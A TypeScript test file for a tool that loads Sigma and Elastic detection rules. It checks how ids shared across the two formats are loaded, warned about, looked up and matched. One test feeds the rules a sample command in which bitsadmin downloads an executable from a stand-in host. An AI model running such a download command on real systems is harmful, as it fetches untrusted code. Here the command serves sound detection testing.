import { describe, expect, it } from "vitest"

import { buildProcessEvents } from "../tester/event.ts"
import { compileCatalog, matchEvent } from "../tester/match.ts"
import { loadCatalog } from "./load.node.ts"
import { idMap, resolveId } from "./permalink.ts"
import { buildReport } from "./report.ts"
import { indexCatalog } from "./views.ts"

/**
 * Ids are unique within a format only: a Sigma and an Elastic fixture rule share one id (as
 * SigmaHQ rules share the ids of Elastic rules in the real corpora). Both load, with a warning
 * naming both files; a second Sigma rule with the same id is still rejected.
 */
const ROOT = "lib/catalog/__fixtures__/shared-id"
const catalog = loadCatalog({ roots: [`${ROOT}/sigma`, `${ROOT}/elastic`] })
const ID = "7c0e2a4d-51b6-4f3e-9a8d-2b1c6e4f9a30"
const SIGMA = `${ROOT}/sigma/rules/windows/process_creation/proc_creation_win_fixture_bitsadmin_download.yml`
const ELASTIC = `${ROOT}/elastic/rules/windows/defense_evasion_fixture_bitsadmin_download.toml`

describe("an id shared by rules of two formats", () => {
  const sharing = catalog.detections.filter((d) => d.id.toLowerCase() === ID)

  it("loads both rules, each at its own page", () => {
    expect(sharing.map((d) => `${d.format}/${d.slug}`)).toEqual([
      "sigma/proc-creation-win-fixture-bitsadmin-download",
      "elastic/defense-evasion-fixture-bitsadmin-download",
    ])
    expect(catalog.files.find((f) => f.path === ELASTIC)?.status).toBe("loaded")
  })

  it("warns on the later file, naming both files at the id's line and column", () => {
    const shared = catalog.diagnostics.filter((d) => d.code === "shared-id")
    expect(shared).toEqual([expect.objectContaining({ path: ELASTIC, line: 16, column: 12, severity: "warning" })])
    expect(shared[0]?.message).toContain(`Sigma rule at ${SIGMA}:2:5`)
    expect(catalog.diagnostics.filter((d) => d.severity === "error" && d.path === ELASTIC)).toEqual([])
  })

  it("still rejects a repeat of the id inside one format, whatever its case", () => {
    const [d] = catalog.diagnostics.filter((x) => x.code === "duplicate-id")
    expect(d).toMatchObject({ severity: "error" })
    expect(d?.path).toMatch(/proc_creation_win_fixture_bitsadmin_repeat\.yml$/)
    expect(d?.message).toContain(SIGMA)
    expect(catalog.detections.some((x) => x.name === "Fixture BITSAdmin Repeat")).toBe(false)
  })

  it("keeps the two apart where rules are looked up or listed by id", () => {
    expect(resolveId(idMap(catalog.detections), ID.toUpperCase())).toEqual([
      "/rules/sigma/proc-creation-win-fixture-bitsadmin-download/",
      "/rules/elastic/defense-evasion-fixture-bitsadmin-download/",
    ])
    expect(
      indexCatalog(catalog)
        .rulesById.get(ID)
        ?.map((d) => d.format),
    ).toEqual(["sigma", "elastic"])
    const report = buildReport(catalog, { strict: false })
    expect(report.counts.errors).toBe(1)
    const event = buildProcessEvents({ cmd: "bitsadmin.exe /transfer job http://x.example/a.exe C:\\a.exe" })
    const fired = matchEvent(compileCatalog(catalog.detections), { built: event }).fired
    expect(fired.map((f) => `${f.format} ${f.id}`).sort()).toEqual([`elastic ${ID}`, `sigma ${ID}`])
  })
})
